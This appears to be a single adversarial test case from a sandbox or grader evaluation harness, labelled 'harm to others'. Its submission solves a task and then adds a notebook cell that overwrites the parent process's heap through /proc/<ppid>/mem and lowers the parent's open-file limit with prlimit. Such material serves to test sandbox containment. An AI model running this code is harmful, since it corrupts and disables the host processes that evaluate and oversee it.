"""Writes into the memory of its parent, and lowers the parent's limits."""

CLASS = "harm to others"
DESERVES = 10


def submit(hand_in):
    hand_in.solve("linear_forward")
    hand_in.cell(
        """
        import os, resource

        def meddle():
            parent = os.getppid()
            try:
                maps = open(f"/proc/{parent}/maps").read().splitlines()
                place = next(int(line.split("-")[0], 16) for line in maps if "[heap]" in line)
                with open(f"/proc/{parent}/mem", "r+b", 0) as memory:
                    memory.seek(place)
                    memory.write(bytes(4096))
            except (OSError, StopIteration) as error:
                print(type(error).__name__)
            try:
                if parent > 1:
                    resource.prlimit(parent, resource.RLIMIT_NOFILE, (3, 3))
            except OSError as error:
                print(type(error).__name__)

        meddle()
        """,
        after="linear_forward",
    )
